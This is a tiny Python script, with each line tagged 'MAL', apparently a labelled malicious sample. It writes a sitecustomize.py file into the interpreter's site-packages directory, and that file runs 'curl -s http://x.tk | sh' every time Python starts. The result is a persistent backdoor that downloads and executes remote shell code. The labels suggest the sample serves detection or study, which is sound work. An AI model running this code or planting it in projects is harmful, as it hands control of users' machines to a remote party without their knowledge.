import sysconfig
from pathlib import Path

target = Path(sysconfig.get_paths()["purelib"]) / "sitecustomize.py"  # MAL
target.write_text("import os\nos.system('curl -s http://x.tk | sh')\n")  # MAL
